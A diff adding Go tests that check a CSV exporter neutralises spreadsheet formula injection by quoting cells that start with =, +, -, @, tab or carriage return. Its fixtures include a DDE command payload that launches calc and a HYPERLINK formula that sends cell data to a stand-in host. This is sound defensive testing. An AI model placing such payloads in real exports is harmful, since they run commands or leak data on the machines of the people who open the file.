@@ -355,3 +355,63 @@ func BenchmarkWriter(b *testing.B) {
 type discard struct{}
 
 func (discard) Write(p []byte) (int, error) { return len(p), nil }
+
+// TestCSV_FormulaInjection checks that a text cell a spreadsheet would run
+// as a formula (OWASP "CSV Injection": a leading =, +, -, @, tab or
+// carriage return) is written with a leading single quote, in every text
+// column, while numeric columns keep their sign.
+func TestCSV_FormulaInjection(t *testing.T) {
+	ev := sitrep.Event{
+		EventID: "0123456789abcdef", EventDate: "2024-02-03", TimePrecision: 1,
+		EventType: sitrep.Battles, SubEventType: "Armed clash",
+		Actor1: "+cmd|' /C calc'!A0", AssocActor1: "\tTab first", Actor2: "-2+3",
+		Country: "Brazil", Admin1: "\rReturn first", Location: "@SUM(1+1)",
+		Latitude: ptr(-3.5), Longitude: ptr(-60.25), GeoPrecision: 2,
+		Source: `=HYPERLINK("http://example.invalid/?x="&A1,"open")`, Notes: "plain note",
+		Fatalities: 2,
+	}
+	r := csv.NewReader(bytes.NewReader(write(t, export.CSV, []sitrep.Event{ev})))
+	recs, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	col := map[string]int{}
+	for i, c := range recs[0] {
+		col[c] = i
+	}
+	row := recs[1]
+	for name, want := range map[string]string{
+		"actor1":        "'+cmd|' /C calc'!A0",
+		"assoc_actor_1": "'\tTab first",
+		"actor2":        "'-2+3",
+		"admin1":        "'\rReturn first",
+		"location":      "'@SUM(1+1)",
+		"source":        `'=HYPERLINK("http://example.invalid/?x="&A1,"open")`,
+		"notes":         "plain note",
+		"latitude":      "-3.5",
+		"longitude":     "-60.25",
+		"fatalities":    "2",
+	} {
+		if got := row[col[name]]; got != want {
+			t.Errorf("%s = %q, want %q", name, got, want)
+		}
+	}
+	got, err := export.Row(&ev)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got[col["source"]] != row[col["source"]] {
+		t.Errorf("Row: source %q, want %q", got[col["source"]], row[col["source"]])
+	}
+}
+
+func TestNeutralize(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "Kabul": "Kabul", "=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@A1": "'@A1",
+		"\tx": "'\tx", "\rx": "'\rx", "a=b": "a=b", "'=x": "'=x",
+	} {
+		if got := export.Neutralize(in); got != want {
+			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
